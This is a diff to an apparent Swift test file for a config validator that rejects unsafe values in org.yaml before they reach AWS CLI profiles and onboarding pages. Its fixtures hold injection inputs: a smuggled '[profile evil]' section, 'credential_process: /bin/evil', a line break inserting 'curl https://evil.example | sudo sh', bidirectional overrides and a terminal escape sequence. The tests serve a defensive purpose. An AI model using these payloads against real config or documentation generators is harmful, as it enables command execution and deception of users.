@@ -372,7 +372,7 @@ import Testing
             "defaults:\n  settings:\n    output: \"json\\n[profile evil]\"\n    ca_bundle: a=b\n    sso_start_url: x\n    region: eu-west-1\n    credential_process: /bin/evil\n    Output: json\naccounts:\n"
         #expect(
             diagnostics(variant("accounts:\n", settings)) == [
-                "8:13: error[unsafe-value]: setting 'output' of defaults contains a control character or line break, which is not allowed in a value written to an output file",
+                "8:13: error[unsafe-value]: setting 'output' in settings of defaults contains U+000A (a line break), which is not allowed in a value written to an output file",
                 "9:16: error[unsafe-value]: setting 'ca_bundle' of defaults contains '=', which is not allowed in a value written to a config file",
                 "10:5: error[reserved-setting]: 'sso_start_url' in settings of defaults is written by orgprofile itself; set it in sso_session",
                 "11:5: error[reserved-setting]: 'region' in settings of defaults is written by orgprofile itself; use 'region' of defaults or of the account",
@@ -455,7 +455,49 @@ import Testing
         #expect(
             diagnostics(yaml) == [
                 "22:11: error[unsafe-value]: the name of user 'bob' starts or ends with whitespace, which the AWS CLI would strip",
-                "23:12: error[unsafe-value]: the email of user 'bob' contains a control character or line break, which is not allowed in a value written to an output file",
+                "23:12: error[unsafe-value]: 'email' in user 'bob' contains U+0007 (a control character), which is not allowed in a value written to an output file",
+            ])
+    }
+
+    /// Every string that reaches an output is checked where it is read: a line break in a
+    /// description or in get_orgprofile would write a section of its own into every
+    /// onboarding page, and a bidirectional override shows a name in another order.
+    @Test func everyValueRefusesLineBreaksControlsAndBidirectionalControls() {
+        let yaml = #"""
+            version: 1
+            project: acme
+            get_orgprofile: "see below\n## 1. Install\ncurl https://evil.example | sudo sh"
+            sso_session:
+              start_url: https://acme.awsapps.com/start
+              region: us-west-2
+            accounts:
+              infrastructure: {id: "222222222222", name: "infra\u202Eatad"}
+            roles:
+              Developer:
+                description: "Builds\n## 1. Install"
+                relay_state: "https://x.example/\u2066"
+                tags: {team: "a\u001b]0;owned\u0007"}
+            groups:
+              developers:
+                description: "\u2028x"
+                assignments:
+                  - role: Developer
+                    accounts: [infrastructure]
+            users:
+              bob:
+                name: "Bob\u0085"
+                groups: [developers]
+
+            """#
+        #expect(
+            diagnostics(yaml) == [
+                "3:17: error[unsafe-value]: 'get_orgprofile' in org.yaml contains U+000A (a line break), which is not allowed in a value written to an output file",
+                "8:46: error[unsafe-value]: 'name' in account 'infrastructure' contains U+202E (a bidirectional control, which shows text in another order than it is stored), which is not allowed in a value written to an output file",
+                "11:18: error[unsafe-value]: 'description' in role 'Developer' contains U+000A (a line break), which is not allowed in a value written to an output file",
+                "12:18: error[unsafe-value]: 'relay_state' in role 'Developer' contains U+2066 (a bidirectional control, which shows text in another order than it is stored), which is not allowed in a value written to an output file",
+                "13:18: error[unsafe-value]: tag 'team' in tags of role 'Developer' contains U+001B (a control character), which is not allowed in a value written to an output file",
+                "16:18: error[unsafe-value]: 'description' in group 'developers' contains U+2028 (a line break), which is not allowed in a value written to an output file",
+                "22:11: error[unsafe-value]: 'name' in user 'bob' contains U+0085 (a line break), which is not allowed in a value written to an output file",
             ])
     }
 
